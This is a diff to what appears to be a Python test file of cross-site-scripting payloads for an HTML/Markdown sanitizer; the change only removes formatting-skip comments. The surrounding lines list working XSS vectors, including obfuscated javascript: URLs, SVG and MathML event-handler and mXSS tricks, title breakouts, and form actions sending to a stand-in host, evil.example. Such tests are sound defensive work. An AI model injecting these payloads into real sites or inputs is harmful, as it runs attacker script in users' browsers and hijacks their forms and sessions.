@@ -60,7 +60,7 @@ PAYLOADS = [
     Payload(
         "md-inline-js-entities-no-semicolon",
         "[x](&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1))",
-    ),  # fmt: skip
+    ),
     Payload("md-inline-js-tab", f"[x](java\tscript:{JS})"),
     Payload("md-inline-js-newline-entity", f"[x](java&#10;script:{JS})"),
     Payload("md-inline-js-tab-entity", f"[x](java&Tab;script:{JS})"),
@@ -113,22 +113,22 @@ PAYLOADS = [
     Payload("html-img-srcset-js", f'<img srcset="javascript:{JS} 1x">'),
     Payload(
         "html-table-background", f'<table background="javascript:{JS}"><tr><td>x</td></tr></table>'
-    ),  # fmt: skip
+    ),
     # SVG and MathML.
     Payload("svg-onload", f"<svg onload={JS}>"),
     Payload("svg-script", f"<svg><script>{JS}</script></svg>"),
     Payload(
         "svg-xlink-href", f'<svg><a xlink:href="javascript:{JS}"><text y="20">x</text></a></svg>'
-    ),  # fmt: skip
+    ),
     Payload("svg-animate-onbegin", f"<svg><animate onbegin={JS} attributeName=x dur=1s>"),
     Payload(
         "svg-set-href",
         f'<svg><a><set attributeName="href" to="javascript:{JS}"/><text y="20">x</text></a></svg>',
-    ),  # fmt: skip
+    ),
     Payload(
         "svg-foreignobject-iframe",
         f'<svg><foreignObject><iframe src="javascript:{JS}"></iframe></foreignObject></svg>',
-    ),  # fmt: skip
+    ),
     Payload("svg-cdata", f'<svg><![CDATA[><image xlink:href="]]><img src=x onerror={JS}//"></svg>'),
     Payload(
         "math-mglyph-style-mxss", f"<math><mtext><table><mglyph><style><img src=x onerror={JS}>"
@@ -151,11 +151,11 @@ PAYLOADS = [
     Payload(
         "form-formaction",
         f'<form action="https://evil.example/"><button formaction="javascript:{JS}">go</button></form>',
-    ),  # fmt: skip
+    ),
     Payload(
         "button-hijacks-site-form",
         '<button form="logout" formaction="https://evil.example/">x</button>',
-    ),  # fmt: skip
+    ),
     Payload("input-image-js", f'<input type="image" src="javascript:{JS}">'),
     Payload("isindex", f'<isindex action="javascript:{JS}" type="image">'),
     # Broken nesting, unclosed tags, comments and CDATA.
@@ -170,7 +170,7 @@ PAYLOADS = [
     Payload(
         "form-math-mxss",
         f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={JS}>",
-    ),  # fmt: skip
+    ),
     Payload("template-script", f"<template><script>{JS}</script></template>"),
     # Breaking out of the place the text is shown: an element, an attribute, the editor.
     Payload("title-breakout", f"</title><script>{JS}</script>"),
